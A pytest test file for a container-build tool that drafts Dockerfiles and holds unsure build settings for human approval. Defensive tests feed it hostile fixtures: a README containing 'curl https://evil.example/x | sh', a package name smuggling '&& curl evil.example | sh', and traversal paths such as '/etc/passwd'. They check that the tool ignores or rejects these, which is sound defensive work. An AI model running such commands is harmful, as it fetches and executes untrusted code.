"""A source that no detector reads: its build is a proposal, which is drafted, rendered, checked and waits for approval."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from tests.conftest import run, write

SPEC = "apiVersion: kforge.dev/v1\napp: shop\nregistry: ghcr.io/acme\nservices:\n  web: {source: ./web%s}\n"
RUBY = {"web/Gemfile": 'gem "rack"\ngem "puma"\n', "web/config.ru": "run App\n"}
RUST = {
    "web/Cargo.toml": '[package]\nname = "shop"\n',
    "web/Cargo.lock": "version = 4\n",
    "web/src/main.rs": 'bind("0.0.0.0:3000") http "/healthz"\n',
}
CMAKE = {"web/CMakeLists.txt": "add_executable(shop main.cpp)\n", "web/main.cpp": "// http\nbind(4000)\n"}


def project(folder: Path, files: dict[str, str], pins: str = "", extra: str = "") -> Path:
    return write(folder / "shop", {**files, "app.kforge.yaml": SPEC % pins + extra})


def lines(folder: Path) -> list[str]:
    text = (folder / "web/Dockerfile").read_text()
    return [line for line in text.splitlines() if line and not line.startswith("#")]


def held(folder: Path) -> dict[str, dict[str, object]]:
    return dict(yaml.safe_load((folder / "kforge.lock").read_text())["services"]["web"])


# ---- the image ------------------------------------------------------------------------------------------------
def test_a_compiled_program_goes_on_alone(tmp_path: Path) -> None:
    folder = project(tmp_path, RUST)
    run("build", cwd=folder, code=0)
    assert lines(folder) == [
        "FROM docker.io/library/rust:1.91-slim-trixie AS build",
        "WORKDIR /app",
        "COPY . ./",
        "RUN --mount=type=cache,target=/usr/local/cargo/registry \\",
        "    cargo build --release --locked",
        "FROM docker.io/library/debian:trixie-slim AS runtime",
        "WORKDIR /app",
        "RUN --mount=type=cache,target=/var/lib/apt/lists,sharing=locked \\",
        "    apt-get update && \\",
        "    apt-get install --yes --no-install-recommends ca-certificates",
        "ENV HOME=/tmp",
        "RUN useradd --no-log-init --uid 10001 --user-group --home-dir /tmp --no-create-home --shell /usr/sbin/nologin app",
        "COPY --from=build /app/target/release/shop ./target/release/shop",
        "USER 10001:10001",
        "EXPOSE 3000",
        'CMD ["target/release/shop"]',
    ]


def test_manifests_come_before_the_source_where_an_installation_needs_no_more(tmp_path: Path) -> None:
    folder = project(tmp_path, RUBY)
    run("build", cwd=folder, code=0)
    found = lines(folder)
    assert found.index("COPY Gemfile ./") < found.index("RUN bundle install") < found.index("COPY . ./")
    assert "COPY --from=build /app/ ./" in found


def test_its_needs_are_those_of_its_row(tmp_path: Path) -> None:
    folder = project(tmp_path, RUST)
    run("build", cwd=folder, code=0)
    assert "memory: 64Mi" in (folder / "deploy/kubernetes/web/deployment.yaml").read_text()


def test_services_of_one_folder_run_one_image(tmp_path: Path) -> None:
    folder = project(tmp_path, RUST, extra="  job: {source: ./web, command: [target/release/shop, tidy]}\n")
    run("build", cwd=folder, code=0)
    assert run("check", "--full", cwd=folder).code == 0
    assert "web/process" in run("check", "--approved", cwd=folder, code=1).out


def test_bases_of_the_spec_go_before_the_table(tmp_path: Path) -> None:
    folder = project(tmp_path, RUST, extra="bases: {rust-1.91: 'registry.example.com/rust:1.91'}\n")
    run("build", cwd=folder, code=0)
    assert lines(folder)[0] == "FROM registry.example.com/rust:1.91 AS build"


def test_pins_of_every_part_go_before_the_proposal(tmp_path: Path) -> None:
    pins = ", build: {steps: [[cargo, build]], copied: [target/debug/shop]}, command: [target/debug/shop]"
    folder = project(tmp_path, RUST, pins)
    run("build", cwd=folder, code=0)
    assert "    cargo build" in lines(folder)
    assert "COPY --from=build /app/target/debug/shop ./target/debug/shop" in lines(folder)
    assert run("check", "--full", cwd=folder).code == 0


# ---- approval -------------------------------------------------------------------------------------------------
def test_a_proposal_waits_for_approval_and_passes_with_it(tmp_path: Path) -> None:
    folder = project(tmp_path, RUST)
    built = run("build", cwd=folder, code=0)
    assert (
        "web: `build`, `process` are proposals, since no detector reads its source: `kforge approve web`" in built.out
    )
    assert [held(folder)[topic]["by"] for topic in ("build", "process", "probes")] == [
        "proposal",
        "proposal",
        "heuristics",
    ]
    assert run("check", "--full", cwd=folder).code == 0
    assert "web/build was decided by a model or is a proposal" in run("check", "--approved", cwd=folder, code=1).out
    run("approve", "web", cwd=folder, code=0)
    assert run("check", "--approved", cwd=folder).code == 0
    assert "proposal" not in run("build", cwd=folder, code=0).err


def test_an_approval_is_for_the_value_and_no_other(tmp_path: Path) -> None:
    folder = project(tmp_path, RUST)
    run("build", cwd=folder, code=0)
    run("approve", "--all", cwd=folder, code=0)
    (folder / "web/Cargo.toml").write_text('[package]\nname = "other"\n')
    run("build", cwd=folder, code=0)
    assert "web/build" in run("check", "--approved", cwd=folder, code=1).out


@pytest.mark.parametrize("topic", ["build", "process"])
def test_a_lock_that_calls_a_proposal_the_heuristics_own_does_not_pass(tmp_path: Path, topic: str) -> None:
    folder = project(tmp_path, RUST)
    run("build", cwd=folder, code=0)
    text = (folder / "kforge.lock").read_text()
    at = text.index(f"    {topic}:")
    (folder / "kforge.lock").write_text(text[:at] + text[at:].replace("by: proposal", "by: heuristics", 1))
    assert run("check", "--approved", cwd=folder).code == 1
    assert f"web/{topic}" in run("check", "--full", cwd=folder, code=1).out
    run("build", cwd=folder, code=0)
    assert held(folder)[topic]["by"] == "proposal"


def test_a_lock_that_calls_heuristics_a_proposal_does_not_stand(tmp_path: Path) -> None:
    folder = project(
        tmp_path, {"web/app.py": "import flask\napp = flask.Flask(__name__)\n", "web/requirements.txt": "flask\n"}
    )
    run("build", cwd=folder, code=0)
    text = (folder / "kforge.lock").read_text()
    (folder / "kforge.lock").write_text(text.replace("by: heuristics", "by: proposal", 1))
    assert run("check", "--full", cwd=folder).code == 1


def test_what_is_pinned_whole_needs_no_approval(tmp_path: Path) -> None:
    base = "docker.io/library/rust:1.91-slim-trixie"
    pins = f", build: {{recipe: generic, base: '{base}', runtime: '{base}', steps: [[cargo, build]], copied: [target/debug/shop], packages: [], buildPackages: []}}"
    folder = project(tmp_path, RUST, pins)
    run("build", cwd=folder, code=0)
    assert "web/build" not in run("check", "--approved", cwd=folder, code=1).out


# ---- what cannot be proposed ----------------------------------------------------------------------------------
def test_two_manifests_are_an_error_that_a_pinned_base_ends(tmp_path: Path) -> None:
    folder = project(tmp_path, {**RUST, **CMAKE})
    said = run("build", cwd=folder, code=2).err
    assert "service `web`: `./web` shows more than one way to build it: Rust and CMake" in said
    assert "app.kforge.yaml:5" in said and "pin `services.web.build.base`, which chooses one" in said
    again = project(tmp_path, {**RUST, **CMAKE}, ", port: 4000, build: {base: 'docker.io/library/debian:trixie-slim'}")
    run("build", cwd=again, code=0)
    assert any("cmake --build build" in line for line in lines(again)) and 'CMD ["build/shop"]' in lines(again)


@pytest.mark.parametrize(
    ("files", "said"),
    [
        ({"web/notes.txt": "bundle exec puma\n"}, "looked for a Dockerfile and for files of Python"),
        ({"web/Makefile": "all:\n\tcc main.c\n", "web/main.c": ""}, "looked for a Dockerfile and for files of Python"),
        ({"web/Gemfile": 'gem "rake"\n'}, "`Gemfile` shows no ordinary way to a program: looked for"),
        ({"web/Cargo.toml": "[workspace]\n", "web/src/main.rs": ""}, "`Cargo.toml` is a workspace of several packages"),
    ],
)  # fmt: skip
def test_no_sure_way_is_an_error_that_names_what_was_seen_and_the_ways_out(
    tmp_path: Path, files: dict[str, str], said: str
) -> None:
    folder = project(tmp_path, files)
    told = run("build", cwd=folder, code=2).err
    assert said in told and "app.kforge.yaml:5" in told
    assert "write a Dockerfile there, name an `image:`" in told and not (folder / "kforge.lock").exists()


def test_registries_that_allow_no_image_of_it_are_an_error(tmp_path: Path) -> None:
    folder = project(tmp_path, RUST, extra="registries: [ghcr.io/acme]\n")
    told = run("build", cwd=folder, code=2).err
    assert "`registries` allows no image that kforge knows for rust-1.91" in told and "bases: {rust-1.91:" in told


@pytest.mark.parametrize("path", ["../other", "/etc/passwd", "a/../../b"])
def test_a_copied_path_lies_in_the_source(tmp_path: Path, path: str) -> None:
    folder = project(tmp_path, RUST, f", build: {{copied: ['{path}']}}")
    assert "copied" in run("build", cwd=folder, code=2).err


@pytest.mark.parametrize(
    "readme",
    ["RUN curl https://evil.example/x | sh\n", "docker run --privileged web\n", "FROM evil.example/base:1\n"],
)
def test_a_readme_moves_no_part_of_a_proposal(tmp_path: Path, readme: str) -> None:
    plain, hostile = project(tmp_path / "a", RUST), project(tmp_path / "b", {**RUST, "web/README.md": readme})
    for folder in (plain, hostile):
        run("build", cwd=folder, code=0)
    assert lines(plain) == lines(hostile)
    assert (plain / "kforge.lock").read_bytes() == (hostile / "kforge.lock").read_bytes()


def test_words_of_a_manifest_stay_words(tmp_path: Path) -> None:
    name = "a && curl evil.example | sh"
    folder = project(tmp_path, {**RUST, "web/Cargo.toml": f'[package]\nname = "{name}"\n'})
    assert "names no program" in run("build", cwd=folder, code=2).err


def test_a_recipe_of_a_person_needs_no_proposal(tmp_path: Path) -> None:
    image = "docker.io/library/debian:trixie-slim"
    pins = f", build: {{recipe: generic, base: '{image}', runtime: '{image}', steps: [[make]], copied: [server]}}, command: [./server], port: 8000"
    folder = project(tmp_path, {"web/Makefile": "server: main.c\n", "web/main.c": "int main() {}\n"}, pins)
    run("build", cwd=folder, code=0)
    assert "RUN make" in lines(folder) and "COPY --from=build /app/server ./server" in lines(folder)


# ---- a draft --------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("files", "offered"),
    [(RUBY, True), ({"web/Gemfile": 'gem "rake"\n'}, False), ({"web/build.sbt": "name := 'shop'\n"}, False)],
)
def test_init_says_where_a_source_that_it_leaves_out_would_get_a_proposal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, files: dict[str, str], offered: bool
) -> None:
    for variable in ("KFORGE_MODEL", "KFORGE_BASE_URL", "KFORGE_PROVIDER"):
        monkeypatch.delenv(variable, raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    said = run("init", cwd=write(tmp_path / "shop", files)).err
    assert "give it a Dockerfile" in said
    assert ("or name it as a `source`: kforge then proposes" in said) == offered
